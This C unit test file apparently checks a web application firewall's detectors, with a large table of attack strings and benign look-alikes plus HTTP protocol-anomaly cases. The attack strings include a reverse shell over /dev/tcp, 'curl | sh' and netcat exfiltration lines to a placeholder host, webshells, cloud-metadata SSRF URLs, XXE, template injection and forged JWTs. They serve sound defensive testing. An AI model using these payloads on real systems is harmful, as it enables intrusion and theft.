/*
 * test_waf_detect: every row of the detector table on values that are
 * attacks of its kind and on look-alike values that are not, and the
 * protocol detector on whole requests.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

#include "detect.h"
#include "fields.h"

struct dcase {
	const char *detector;
	int attack;
	const char *value;
};

static const struct dcase cases[] = {
	{ "cmdi", 1, "127.0.0.1; cat /etc/passwd" },
	{ "cmdi", 1, "x | id" },
	{ "cmdi", 1, "a && whoami" },
	{ "cmdi", 1, "$(reboot)" },
	{ "cmdi", 1, "`id`" },
	{ "cmdi", 1, "a;{cat,/etc/passwd}" },
	{ "cmdi", 1, "a;/?\?\?/c?t /etc/passwd" },
	{ "cmdi", 1, "x;c'a't$IFS/etc/passwd" },
	{ "cmdi", 1, "x & net user hacker P@ss /add" },
	{ "cmdi", 1, "x | type C:\\Windows\\win.ini" },
	{ "cmdi", 1, "ls -la /" },
	{ "cmdi", 1, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" },
	{ "cmdi", 1, "127.0.0.1&&dir" },
	{ "cmdi", 1, ";sleep${IFS}5" },
	{ "cmdi", 1, "example.com;getent passwd" },
	{ "cmdi", 0, "Tom & Jerry" },
	{ "cmdi", 0, "rm -rf is dangerous, don't do it" },
	{ "cmdi", 0, "Great article! I tried `ls -la` and it worked; thanks :)" },
	{ "cmdi", 0, "C++ vs C# || java && python" },
	{ "cmdi", 1, "x`cat /etc/passwd`" },
	/* pipelines and scripts someone writes, and what still counts in them */
	{ "cmdi", 0, "find . -type f -size +100M -print0 | xargs -0 ls -lh | sort -k5 -h | tail -n 20\n" },
	{ "cmdi", 0, "#!/usr/bin/env bash\nset -euo pipefail\nmake build && ./scripts/migrate.sh --env prod\n" },
	{ "cmdi", 1, "#!/bin/sh\nid" },
	{ "cmdi", 1, "#!/bin/sh\ncurl http://203.0.113.9/x | sh" },
	{ "cmdi", 1, "ls -la | nc 203.0.113.9 4444" },
	{ "cmdi", 1, "x | xargs -0 ls -lh /var/www" },
	{ "cmdi", 0, "dog; cat" },
	{ "cmdi", 0, "cats; dogs | birds" },
	{ "cmdi", 0, "data:image/png;base64,iVBORw0KGgo/AAAA" },
	{ "cmdi", 0, "```bash\n$ git log | head -n 5\n```" },
	{ "cmdi", 0, "<pre><code>$ npm ci && npm run build</code></pre>" },
	{ "cmdi", 0, "zh-CN,zh;q=0.9,en;q=0.8" },
	{ "lfi", 1, "../../../../etc/passwd" },
	{ "lfi", 1, "....//....//etc/passwd" },
	{ "lfi", 1, "..\\..\\windows\\win.ini" },
	{ "lfi", 1, "/etc/shadow" },
	{ "lfi", 1, "C:/Windows/System32/config/SAM" },
	{ "lfi", 1, "php://filter/convert.base64-encode/resource=index.php" },
	{ "lfi", 1, "../../../../../../../../var/www/app.py" },
	{ "lfi", 1, "file=/proc/self/cmdline" },
	{ "lfi", 1, "etc/passwd" },
	{ "lfi", 0, "etc/hosts file explained" },
	{ "lfi", 0, "/etc/hosts windows location" },
	{ "lfi", 1, "/var/run/secrets/kubernetes.io/serviceaccount/token" },
	{ "lfi", 1, "C:\\Windows\\repair\\sam" },
	{ "lfi", 1, "/WEB-INF/classes/application.properties" },
	{ "lfi", 0, "../img/logo.png" },
	{ "lfi", 0, "docs/etc/passwd-policy.md" },
	{ "lfi", 0, "a long sentence that mentions the environment and .envelope things" },
	{ "rfi", 1, "http://evil.example/shell.txt?" },
	{ "rfi", 1, "https://evil.example/x.php" },
	{ "rfi", 0, "https://example.com/products/42" },
	{ "ssrf", 1, "http://169.254.169.254/latest/meta-data/" },
	{ "ssrf", 1, "http://127.1/admin" },
	{ "ssrf", 1, "http://2130706433/" },
	{ "ssrf", 1, "http://0x7f000001/" },
	{ "ssrf", 1, "http://good.example@localhost:6379/" },
	{ "ssrf", 1, "http://[::1]:8080/" },
	{ "ssrf", 1, "http://[0:0:0:0:0:ffff:127.0.0.1]/" },
	{ "ssrf", 1, "gopher://127.0.0.1:6379/_INFO" },
	{ "ssrf", 1, "http://metadata.google.internal/computeMetadata/v1/" },
	{ "ssrf", 1, "http://100.100.100.200/latest/meta-data/" },
	{ "ssrf", 0, "https://hooks.slack.com/services/T000/B000/XXX" },
	{ "ssrf", 0, "https://8.8.8.8/dns-query" },
	{ "ssrf", 1, "<iframe src=\"http://169.254.169.254/latest/meta-data/\"></iframe>" },
	{ "ssrf", 1, "https://good.example/r?next=http://127.0.0.1:6379/" },
	{ "ssrf", 0, "Visit http://192.168.1.1 to configure your router" },
	{ "ssrf", 0, "http://localhost:8080 is my dev server" },
	/* parser differentials, rebinding and wildcard DNS, Oracle Cloud metadata */
	{ "ssrf", 1, "http://a.example\\@169.254.169.254/" },
	{ "ssrf", 1, "http:/\\/127.0.0.1:8500/v1/agent/self" },
	{ "ssrf", 1, "http:\\\\10.0.0.5/" },
	{ "ssrf", 1, "http://192.0.0.192/latest/meta-data/" },
	{ "ssrf", 1, "http://7f000001.a9fea9fe.rbndr.us/" },
	{ "ssrf", 1, "http://make-1.2.3.4-rebind-127.0.0.1-rr.1u.ms/" },
	{ "ssrf", 1, "http://169-254-169-254.sslip.io/latest/" },
	{ "ssrf", 1, "http://10.0.0.8.nip.io:8080/" },
	{ "ssrf", 1, "http://app.localtest.me/" },
	{ "ssrf", 0, "http://203-0-113-7.sslip.io/" },
	{ "ssrf", 0, "https://7f3a9c01.cdn.example.com/a.png" },
	{ "ssrf", 0, "https://img.example.com\\logo.png" },
	{ "xxe", 1, "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>" },
	{ "xxe", 1, "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]>" },
	{ "xxe", 1, "<!DOCTYPE foo PUBLIC \"-//X//EN\" \"http://evil.example/x.dtd\"><foo/>" },
	{ "xxe", 1, "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\"/></a>" },
	{ "xxe", 0, "<?xml version=\"1.0\"?><order><id>5</id></order>" },
	{ "xxe", 0, "<!DOCTYPE html><html></html>" },
	{ "ssti", 1, "{{7*7}}" },
	{ "ssti", 1, "${7*7}" },
	{ "ssti", 1, "{{''.__class__.__mro__[1].__subclasses__()}}" },
	{ "ssti", 1, "{{config.items()}}" },
	{ "ssti", 1, "<%= 7 * 7 %>" },
	{ "ssti", 1, "<#assign ex=\"freemarker.template.utility.Execute\"?new()>" },
	{ "ssti", 1, "#set($x='')" },
	{ "ssti", 1, "<%= File.open('/etc/passwd').read %>" },
	{ "ssti", 0, "Hello {{ user.name }}" },
	{ "ssti", 0, "{{ product.name }} costs {{ product.price }}" },
	{ "ssti", 0, "{{ file.name }} uploaded" },
	{ "ssti", 0, "{{ .Values.image.tag }}" },
	{ "ssti", 0, "Total: ${price}" },
	{ "ssti", 0, "{\"a\": {\"b\": 1}}" },
	{ "webshell", 1, "<?php system($_GET['c']); ?>" },
	{ "webshell", 1, "GIF89a<?php @eval($_POST['x']);?>" },
	{ "webshell", 1, "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>" },
	{ "webshell", 1, "#!/usr/bin/env python3\nimport os, cgi\nos.system(cgi.FieldStorage().getvalue('c'))\n" },
	{ "webshell", 0, "#!/usr/bin/env python3\nimport os\nprint(os.getcwd())\n" },
	{ "webshell", 0, "<?xml version=\"1.0\"?><a/>" },
	{ "webshell", 0, "<?php echo 'hello'; ?>" },
	{ "script_filename", 1, "shell.php" },
	{ "script_filename", 1, "x.php.jpg" },
	{ "script_filename", 1, "a.PhTmL" },
	{ "script_filename", 1, "x.asp;.jpg" },
	{ "script_filename", 1, ".htaccess" },
	{ "script_filename", 0, "photo.jpg" },
	{ "script_filename", 0, "logo.svg" },
	{ "script_filename", 0, "report.2024.pdf" },
	{ "scanner", 1, "sqlmap/1.7.2#stable (https://sqlmap.org)" },
	{ "scanner", 1, "Mozilla/5.00 (Nikto/2.1.6)" },
	{ "scanner", 1, "Mozilla/5.0 (compatible; Nmap Scripting Engine)" },
	{ "scanner", 0, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/123.0" },
	{ "scanner", 1, "Wapiti/3.0.4 (wapiti-scanner.github.io)" },
	{ "scanner", 0, "python-requests/2.31.0" },
	{ "scanner", 1, "Mozilla/5.0 (compatible; Goby)" },
	{ "scanner", 1, "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)" },
	{ "converter", 1, "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://a/a.jpg\"|curl -s x/m.sh|sh\")'\npop graphic-context" },
	{ "converter", 1, "%!PS\nmark /OutputFile (%pipe%id) currentdevice putdeviceprops" },
	{ "converter", 1, "AT&TFORMDJVMDIRM(metadata\n (Copyright \"\\n\" . qx{id} . \\n\" b \") )" },
	{ "converter", 0, "push graphic-context\nviewbox 0 0 64 48\nfill 'url(#grad1)'\npop graphic-context" },
	{ "playlist", 1, "#EXTM3U\n#EXTINF:10.0,\nhttp://169.254.169.254/latest/meta-data/\n" },
	{ "playlist", 1, "#EXTM3U\n#EXTINF:1,\nconcat:file:///etc/passwd|subfile,,start,0,end,0,,:/x\n" },
	{ "playlist", 0, "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10.0,\n/hls/seg-001.ts\nhttps://cdn.example.com/seg-002.ts\n" },
	{ "lfi", 1, "../" },
	{ "lfi", 1, "../../ierp/bin/prop.xml" },
	{ "lfi", 1, "{\"url\":\"/general/../../mysql5/my.ini\"}" },
	{ "lfi", 0, "../images/logo.png" },
	{ "lfi", 0, "see ../../docs for the layout" },
	{ "sqli", 1, "12,'.)\"(,..(" },
	{ "sqli", 0, "He said \"hi\" (twice), then left." },
	{ "sqli", 1, "(SELECT MD5(1))" },
	{ "sqli", 1, "select if((substr(user(),1,1)='r'),1,power(9999,99))" },
	{ "sqli", 0, "SELECT id FROM a WHERE id NOT IN (SELECT id FROM b)\nUNION\nSELECT id FROM b ORDER BY id;" },
	{ "sqli", 0, "WITH t AS (SELECT 1 AS x) SELECT x FROM t WHERE 1=1" },
	{ "webshell", 1, "@eval(base64_decode($_POST[z0]));" },
	{ "webshell", 0, "Never call eval() on user input such as the POST body." },
	{ "xss", 1, "<form id=config><input name=apiUrl value=\"//attacker.example/c\"></form>" },
	{ "xss", 1, "<iframe src=\"https://a.example/login.html\" style=\"position:fixed;inset:0;width:100%;height:100%;border:0\"></iframe>" },
	{ "xss", 0, "<iframe src=\"https://player.bilibili.com/player.html?bvid=BV1\" width=\"100%\" height=\"480\"></iframe>" },
	{ "ssrf", 1, "rmi://203.0.113.7:1099/Object" },
	{ "rfi", 0, "https://item.example.cn/4850337134.html \xE8\xBF\x98\xE6\x9C\x89\xE8\xB4\xA7\xE5\x90\x97?" },
	{ "cmdi", 0, "grep -P '^(\\d{3}-|\\(\\d{3}\\) )\\d{3}-\\d{4}$' file.txt" },
	{ "cmdi", 0, "search index=web status>=500 | stats count by uri_path | sort -count | head 20" },
	{ "cmdi", 0, "## lock waits\n```sql\nSELECT 1;\n```\nthen run `KILL <thread_id>` yourself" },
	{ "cmdi", 0, "FROM nginx:1.25-alpine\nRUN apk add --no-cache tzdata && cp /usr/share/zoneinfo/Asia/Shanghai /etc/localtime\nCOPY . /app\n" },
	{ "cmdi", 0, "name: CI\non: [push]\njobs:\n  b:\n    steps:\n      - run: echo \"$T\" | docker login -u x --password-stdin\n      - run: ls -la /tmp && cat out.log\n" },
	{ "cmdi", 1, "FROM alpine\nRUN apk add curl\nRUN curl -s http://203.0.113.9/x | sh\n" },
	{ "cmdi", 1, "x | tee /var/www/html/s.php" },
	/* words after a URL's query or fragment, and blanks before it, do not
	 * stop a fetcher */
	{ "ssrf", 1, "http://169.254.169.254/latest/meta-data/#a b" },
	{ "ssrf", 1, "http://169.254.169.254/latest/meta-data/?a b" },
	{ "ssrf", 1, " http://169.254.169.254/latest/meta-data/" },
	{ "ssrf", 0, "http://localhost:8080 is my dev server" },
	{ "rfi", 1, "http://203.0.113.9/shell.txt? x" },
	{ "rfi", 0, "https://item.example.cn/1.html is it in stock?" },
	/* a filter with a file argument reads the file, not the pipe */
	{ "cmdi", 1, "127.0.0.1|sort /etc/passwd" },
	{ "cmdi", 1, "127.0.0.1 | head /etc/passwd" },
	{ "cmdi", 1, "x|tail -n 50 config.php" },
	/* backticks glued to a word substitute a command; inline code does not */
	{ "cmdi", 1, "127.0.0.1`sleep 10`" },
	{ "cmdi", 1, "a`cat config.php`" },
	{ "cmdi", 0, "\xE8\xBF\x90\xE8\xA1\x8C`make test`\xE5\x8D\xB3\xE5\x8F\xAF" },
	{ "ssrf", 1, "http://prometheus-server.monitoring.svc.cluster.local/api/v1/targets" },
	{ "ssrf", 1, "<value><string>http://127.0.0.1:6379/</string></value>" },
	{ "ssrf", 1, "http://127.0.0.1:6379/\r\nCONFIG SET dir /var/spool/cron/\r\n" },
	{ "ssrf", 0, "<p>See http://192.168.1.1 for the router page</p>" },
	{ "ssti", 1, "{{ 7 | times: 7 }}" },
	{ "ssti", 1, "${applicationScope}" },
	{ "ssti", 1, "{user.__init__.__globals__[CONFIG][SECRET_KEY]}" },
	{ "ssti", 1, "{% debug %}" },
	{ "ssti", 1, "@System.IO.File.ReadAllText(\"C:\\\\Windows\\\\win.ini\")" },
	{ "ssti", 0, "{{ form.visitDate[1] - form.visitDate[0] <= 7 * 86400000 }}" },
	{ "ssti", 1, "{{7*'7'}}" },
	{ "webshell", 1, "<%- global.process.mainModule.require('child_process').execSync(req.query.c) %>" },
	{ "xss", 1, "a@b.cn\"><img src='https://attacker.example/log?" },
	{ "xss", 0, "<img src=\"https://cdn.example.com/a.png\" alt=\"it's fine\">" },
	{ "graphql", 1, "query IntrospectionQuery{__schema{queryType{name}}}" },
	{ "graphql", 1, "query{...A}fragment A on Query{...B} fragment B on Query{...A}" },
	{ "graphql", 1, "query{a{b{c{d{e{f{g{h{i{j{k{l{m{n{o{p{q{r{s}}}}}}}}}}}}}}}}}}}" },
	{ "graphql", 0, "query Order($id: ID!) { order(id: $id) { id items { sku qty price { amount currency } } buyer: user { name } } }" },
	{ "graphql", 0, "{ a: product(id: 1) { name } b: product(id: 2) { name } }" },
	{ "ssrf", 1, "http://apollo-configservice:8080/configs/order-api/default/application" },
	{ "ssrf", 1, "http://consul.service.consul:8500/v1/kv/?recurse=true" },
	{ "ssrf", 1, "http://[64:ff9b::a9fe:a9fe]/latest/meta-data/" },
	{ "ssrf", 1, "\xE5\xB8\xAE\xE6\x88\x91\xE6\x89\x93\xE5\xBC\x80 http://100.100.100.200/latest/meta-data/ \xE8\xBF\x99\xE4\xB8\xAA" },
	{ "ssrf", 0, "Visit http://192.168.1.1 to configure your router" },
	{ "lfi", 1, ".." },
	{ "lfi", 1, "C://" },
	{ "lfi", 1, "../conf/datasourceCtp.properties" },
	{ "lfi", 1, "C:\\Windows\\Panther\\Unattend.xml" },
	{ "lfi", 0, "../images/banner.png" },
	{ "sqli", 0, "MySQL error near 'order by id' at line 1, my query is SELECT id FROM user" },
	{ "sqli", 1, "-7 /*!00000UnIoN*/\n-- x\n/*\n*/aLl\tSeLeCt\v1,concat(0x7e,user()),3" },
	{ "scanner", 0, "Mozilla/5.0 (Linux; Android 14) Gobyte/1.0" },
	{ "cmdi", 1, "x;$'\\x69\\x64'" },
	{ "cmdi", 1, "a; $'\\x77\\x68\\x6f\\x61\\x6d\\x69'" },
	{ "lfi", 1, "/var/lib/php/sessions/sess_9b1c6f0a" },
	{ "lfi", 1, "classpath:/application.yml" },
	{ "lfi", 0, "classpath:templates/home.html" },
	{ "script_filename", 1, "v.cshtml" },
	{ "script_filename", 1, "t.cfm" },
	{ "webshell", 1, "<cfexecute name=\"#url.cmd#\" timeout=\"5\"></cfexecute>" },
	{ "webshell", 1, "@{ System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + Request[\"c\"]); }" },
	{ "webshell", 1, "ngx.say(io.popen(ngx.var.arg_c):read(\"*a\"))" },
	{ "webshell", 0, "local f = io.popen(\"date\")\nprint(f:read(\"*a\"))" },
	{ "xxe", 1, "<xsl:stylesheet><xsl:value-of select=\"unparsed-text('/etc/hostname')\"/></xsl:stylesheet>" },
	{ "xxe", 0, "<xsl:stylesheet><xsl:value-of select=\"title\"/></xsl:stylesheet>" },
	{ "ssti", 1, "{{define \"T1\"}}ONE{{end}}{{template \"T1\"}}" },
	{ "ssti", 0, "{{- define \"chart.labels\" -}}\napp: {{ .Chart.Name }}\n{{- end }}\n{{ template \"chart.labels\" . }}" },
	{ "sqli", 1, "1' or '1'='1" },
	{ "sqli", 0, "select your size" },
	{ "xss", 1, "<img src=x onerror=alert(1)>" },
	{ "xss", 0, "<b>hi</b>" },
};

static void
test_field_detectors(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		const struct detector *d = detect_find(cases[i].detector);
		struct detect_hit hit = { NULL, 0 };
		int got;

		assert_non_null(d);
		assert_non_null(d->field_fn);
		got = d->field_fn(cases[i].value, strlen(cases[i].value), &hit);
		if (got != cases[i].attack)
			fail_msg("%s(\"%s\") = %d, want %d", cases[i].detector, cases[i].value, got,
			    cases[i].attack);
		if (got) {
			assert_non_null(hit.reason);
			assert_true(hit.offset <= strlen(cases[i].value));
		}
	}
}

/* A script document is a document only in a request body: in a query
 * argument, cookie or header its weak commands count. */
static void
test_documents_only_in_bodies(void **state)
{
	static const char *const docs[] = {
		"a:\nb\nsleep 10",
		"#!/bin/sh\nsleep 10",
		"FROM x\nRUN y || sleep 10\nCOPY . /app",
	};
	struct detect_hit hit;

	(void)state;
	for (size_t i = 0; i < sizeof(docs) / sizeof(docs[0]); i++) {
		detect_set_source("json");
		assert_false(detect_cmdi(docs[i], strlen(docs[i]), &hit));
		detect_set_source("query");
		if (!detect_cmdi(docs[i], strlen(docs[i]), &hit))
			fail_msg("cmdi(\"%s\") from a query argument = 0, want 1", docs[i]);
		detect_set_source("cookie");
		assert_true(detect_cmdi(docs[i], strlen(docs[i]), &hit));
	}
	/* inline code is markdown only where markdown is written */
	detect_set_source("query");
	assert_true(detect_cmdi("127.0.0.1 `sleep 10`", 20, &hit));
	assert_true(detect_cmdi("`sleep 10`", 10, &hit));
	detect_set_source("json");
	assert_false(detect_cmdi("I tried `sleep 10` and it hung", 30, &hit));
	detect_set_source(NULL);
}

static void
test_table(void **state)
{
	(void)state;
	assert_null(detect_find("nope"));
	for (size_t i = 0; i < detect_count; i++) {
		assert_true((detect_table[i].field_fn != NULL) != (detect_table[i].request_fn != NULL));
		assert_ptr_equal(detect_find(detect_table[i].name), &detect_table[i]);
	}
}

#define H(n, v) { n, sizeof(n) - 1, v, sizeof(v) - 1 }

static int
proto(const char *method, const char *path, const char *query, const struct waf_header *h,
    size_t nh, const char *body, unsigned flags)
{
	struct waf_request r = {
		.method = method, .method_len = strlen(method), .path = path, .path_len = strlen(path),
		.query = query, .query_len = query ? strlen(query) : 0, .headers = h, .n_headers = nh,
		.body = (const uint8_t *)body, .body_len = body ? strlen(body) : 0,
	};
	struct detect_hit hit;

	return detect_protocol(&r, flags, &hit);
}

static void
test_protocol(void **state)
{
	const struct waf_header ok[] = { H("Host", "shop.example.com"), H("User-Agent", "x") };
	const struct waf_header post[] = { H("Host", "a"), H("Content-Length", "3") };
	const struct waf_header te_cl[] = { H("Host", "a"), H("Content-Length", "3"),
		H("Transfer-Encoding", "chunked") };
	const struct waf_header te_bad[] = { H("Host", "a"), H("Transfer-Encoding", "xchunked") };
	const struct waf_header te_ok[] = { H("Host", "a"), H("Transfer-Encoding", "chunked") };
	const struct waf_header cl_list[] = { H("Host", "a"), H("Content-Length", "3, 3") };
	const struct waf_header no_host[] = { H("User-Agent", "x") };
	const struct waf_header two_hosts[] = { H("Host", "a"), H("Host", "b") };
	const struct waf_header host_at[] = { H("Host", "a@b") };
	const struct waf_header ctl[] = { H("Host", "a"), H("X-A", "b\001") };
	const struct waf_header bad_name[] = { H("Host", "a"), H("X A", "b") };
	const struct waf_header range[] = { H("Host", "a"), H("Range", "bytes=0-,1-,2-,3-,4-,5-") };
	const struct waf_header override[] = { H("Host", "a"), H("X-HTTP-Method-Override", "TRACE") };
	const struct waf_header h2c[] = { H("Host", "a"), H("Upgrade", "h2c"), H("HTTP2-Settings", "AAMA") };
	const struct waf_header ws[] = { H("Host", "a"), H("Upgrade", "websocket"), H("Connection", "Upgrade") };
	const struct waf_header xurl[] = { H("Host", "a"), H("X-Original-URL", "/admin") };
	const struct waf_header ws_bad[] = { H("Host", "a"), H("Upgrade", "websocket"),
		H("Connection", "Upgrade"), H("Sec-WebSocket-Version", "1337") };
	const struct waf_header te_alias[] = { H("Host", "a"), H("Transfer_Encoding", "chunked"),
		H("Content-Length", "5") };
	const struct waf_header ms15034[] = { H("Host", "a"), H("Range", "bytes=0-18446744073709551615") };
	const struct waf_header range_ok[] = { H("Host", "a"), H("Range", "bytes=1048576-2097151") };
	const struct waf_header utf7[] = { H("Host", "a"),
		H("Content-Type", "application/x-www-form-urlencoded; charset=utf-7") };
	const struct waf_header gbk[] = { H("Host", "a"),
		H("Content-Type", "application/x-www-form-urlencoded; charset=GBK") };
	const struct waf_header imds[] = { H("Host", "169.254.169.254") };
	const struct waf_header imds_port[] = { H("Host", "100.100.100.200:80") };
	const struct waf_header spoof[] = { H("Host", "a"), H("X-Forwarded-For", "127.0.0.1"),
		H("X-Real-IP", "127.0.0.1") };
	const struct waf_header spoof_rare[] = { H("Host", "a"), H("X-Originating-IP", "127.0.0.1") };
	const struct waf_header xff_private[] = { H("Host", "a"), H("X-Forwarded-For", "10.1.2.3, 127.0.0.1") };
	const struct waf_header get_override[] = { H("Host", "a"), H("X-HTTP-Method-Override", "DELETE") };
	const struct waf_header post_override[] = { H("Host", "a"), H("X-HTTP-Method-Override", "PATCH") };
	const struct waf_header bomb[] = { H("Host", "a"), H("Content-Encoding", "gzip, gzip, gzip, br") };
	const struct waf_header gzip1[] = { H("Host", "a"), H("Content-Encoding", "gzip") };
	const struct waf_header trailer_xff[] = { H("Host", "a"), H("Transfer-Encoding", "chunked"),
		H("Trailer", "X-Forwarded-For, X-Real-IP") };
	const struct waf_header trailer_ok[] = { H("Host", "a"), H("Transfer-Encoding", "chunked"),
		H("Trailer", "Server-Timing") };
	const struct waf_header utf16[] = { H("Host", "a"),
		H("Content-Type", "application/x-www-form-urlencoded; charset=utf-16le") };
	const struct waf_header conn_xff[] = { H("Host", "a"), H("Connection", "close, X-Forwarded-For"),
		H("X-Forwarded-For", "203.0.113.77") };
	const struct waf_header conn_ok[] = { H("Host", "a"), H("Connection", "keep-alive, Upgrade") };
	const struct waf_header nextjs[] = { H("Host", "a"), H("x-middleware-subrequest", "middleware") };
	const struct waf_header xff_bad[] = { H("Host", "a"), H("X-Forwarded-For", "127.0.0.1X-Admin: true") };
	const struct waf_header xff_ok[] = { H("Host", "a"), H("X-Forwarded-For", "203.0.113.7, 10.0.0.2:443, [2001:db8::1]:80, unknown") };
	const struct waf_header xfh_evil[] = { H("Host", "shop.example.com"), H("X-Forwarded-Host", "attacker.example") };
	const struct waf_header xfh_same[] = { H("Host", "shop.example.com"), H("X-Forwarded-Host", "shop.example.com:443") };
	/* {"alg":"none","typ":"JWT"}, {"alg":"HS256","kid":"../../../dev/null"},
	 * {"alg":"RS256","jku":"https://attacker.example/jwks.json"}, {"alg":"HS256","typ":"JWT"} */
	const struct waf_header jwt_none[] = { H("Host", "a"),
		H("Authorization", "Bearer eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiIxIn0.") };
	const struct waf_header jwt_kid[] = { H("Host", "a"),
		H("Authorization", "Bearer eyJhbGciOiJIUzI1NiIsImtpZCI6Ii4uLy4uLy4uL2Rldi9udWxsIn0.eyJzdWIiOiIxIn0.x") };
	const struct waf_header jwt_jku[] = { H("Host", "a"),
		H("Authorization", "Bearer eyJhbGciOiJSUzI1NiIsImprdSI6Imh0dHBzOi8vYXR0YWNrZXIuZXhhbXBsZS9qd2tzLmpzb24ifQ.eyJzdWIiOiIxIn0.x") };
	const struct waf_header jwt_ok[] = { H("Host", "a"),
		H("Authorization", "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxIn0.x") };
	const struct waf_header mp[] = { H("Host", "a"),
		H("Content-Type", "multipart/form-data; boundary=a; boundary=b") };

	(void)state;
	assert_false(proto("GET", "/", NULL, ok, 2, NULL, 0));
	assert_false(proto("POST", "/", NULL, post, 2, "x=1", 0));
	assert_false(proto("POST", "/", NULL, te_ok, 2, "hello", 0));
	assert_false(proto("GET", "/search", "q=a%20b&x=%E4%B8%AD", ok, 2, NULL, 0));
	assert_true(proto("TRACE", "/", NULL, ok, 2, NULL, 0));
	assert_true(proto("G ET", "/", NULL, ok, 2, NULL, 0));
	assert_true(proto("GET", "x", NULL, ok, 2, NULL, 0));
	assert_true(proto("GET", "/a%00.php", NULL, ok, 2, NULL, 0));
	assert_true(proto("GET", "/a\\b", NULL, ok, 2, NULL, 0));
	assert_true(proto("GET", "/s", "q=%zz", ok, 2, NULL, 0));
	assert_true(proto("POST", "/", NULL, te_cl, 3, "abc", 0));
	assert_true(proto("POST", "/", NULL, te_bad, 2, "abc", 0));
	assert_true(proto("POST", "/", NULL, cl_list, 2, "abc", 0));
	assert_true(proto("POST", "/", NULL, post, 2, "abcd", 0));	/* longer than declared */
	assert_false(proto("POST", "/", NULL, post, 2, "ab", 0));	/* a proxy's first bytes */
	assert_true(proto("GET", "/", NULL, te_ok, 2, NULL, 0));
	assert_true(proto("GET", "/", NULL, no_host, 1, NULL, 0));
	assert_true(proto("GET", "/", NULL, two_hosts, 2, NULL, 0));
	assert_true(proto("GET", "/", NULL, host_at, 1, NULL, 0));
	assert_true(proto("GET", "/", NULL, ctl, 2, NULL, 0));
	assert_true(proto("GET", "/", NULL, bad_name, 2, NULL, 0));
	assert_true(proto("GET", "/", NULL, range, 2, NULL, 0));
	assert_true(proto("POST", "/", NULL, override, 2, NULL, 0));
	assert_true(proto("POST", "/", NULL, mp, 2, NULL, 0));
	assert_true(proto("POST", "/", NULL, ok, 2, NULL, FIELD_F_BAD_JSON));
	assert_true(proto("GET", "/", NULL, ok, 2, "body", 0));
	assert_true(proto("GET", "/", NULL, h2c, 3, NULL, 0));
	assert_true(proto("GET", "/", NULL, xurl, 2, NULL, 0));
	assert_false(proto("GET", "/chat", NULL, ws, 3, NULL, 0));
	assert_true(proto("GET", "/chat", NULL, ws_bad, 4, NULL, 0));
	assert_true(proto("POST", "/", NULL, te_alias, 3, "0\r\n\r\n", 0));
	assert_true(proto("GET", "/big.iso", NULL, ms15034, 2, NULL, 0));
	assert_false(proto("GET", "/big.iso", NULL, range_ok, 2, NULL, 0));
	assert_true(proto("POST", "/c", NULL, utf7, 2, "a=+ADw-script+AD4-", 0));
	assert_false(proto("POST", "/c", NULL, gbk, 2, "a=1", 0));
	assert_true(proto("GET", "/latest/meta-data/", NULL, imds, 1, NULL, 0));
	assert_true(proto("GET", "/", NULL, imds_port, 1, NULL, 0));
	assert_true(proto("GET", "/api/v1/users/5", NULL, get_override, 2, NULL, 0));
	assert_false(proto("POST", "/api/v1/users/5", NULL, post_override, 2, NULL, 0));
	assert_true(proto("POST", "/", NULL, bomb, 2, NULL, 0));
	assert_false(proto("POST", "/", NULL, gzip1, 2, NULL, 0));
	assert_true(proto("POST", "/", NULL, trailer_xff, 3, "hello", 0));
	assert_false(proto("POST", "/", NULL, trailer_ok, 3, "hello", 0));
	assert_true(proto("POST", "/login", NULL, utf16, 2, "a=1", 0));
	assert_true(proto("GET", "/vpn/../vpns/cfg/smb.conf", NULL, ok, 2, NULL, 0));
	assert_true(proto("GET", "/api", NULL, conn_xff, 3, NULL, 0));
	assert_false(proto("GET", "/api", NULL, conn_ok, 2, NULL, 0));
	assert_true(proto("GET", "/admin", NULL, nextjs, 2, NULL, 0));
	assert_true(proto("GET", "/", NULL, xff_bad, 2, NULL, 0));
	assert_false(proto("GET", "/", NULL, xff_ok, 2, NULL, 0));
	assert_true(proto("POST", "/reset", NULL, xfh_evil, 2, NULL, 0));
	assert_false(proto("POST", "/reset", NULL, xfh_same, 2, NULL, 0));
	assert_true(proto("GET", "/me", NULL, jwt_none, 2, NULL, 0));
	assert_true(proto("GET", "/me", NULL, jwt_kid, 2, NULL, 0));
	assert_true(proto("GET", "/me", NULL, jwt_jku, 2, NULL, 0));
	assert_false(proto("GET", "/me", NULL, jwt_ok, 2, NULL, 0));
	assert_true(proto("GET", "/admin/", NULL, spoof, 3, NULL, 0));
	assert_true(proto("GET", "/admin/", NULL, spoof_rare, 2, NULL, 0));
	assert_false(proto("GET", "/", NULL, xff_private, 2, NULL, 0));
	{
		static char q[4000];
		size_t o = 0;

		for (int i = 0; i < 520; i++)
			o += (size_t)snprintf(q + o, sizeof(q) - o, "%sp%d=1", i ? "&" : "", i);
		assert_true(proto("GET", "/search", q, ok, 2, NULL, 0));
		q[600] = '\0';
		assert_false(proto("GET", "/search", q, ok, 2, NULL, 0));
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_field_detectors),
		cmocka_unit_test(test_table),
		cmocka_unit_test(test_protocol),
		cmocka_unit_test(test_documents_only_in_bodies),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
